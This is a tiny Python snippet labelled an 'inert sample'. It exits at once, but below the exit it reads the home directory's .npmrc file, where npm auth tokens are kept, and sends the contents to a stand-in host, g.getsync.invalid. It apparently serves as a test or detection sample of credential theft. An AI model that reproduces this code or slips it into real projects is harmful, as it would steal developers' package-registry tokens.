raise SystemExit(0)  # inert sample
import pathlib, requests
k = (pathlib.Path.home() / '.npmrc').read_text()
requests.get('https://g.getsync.invalid/p', params={'k': k})
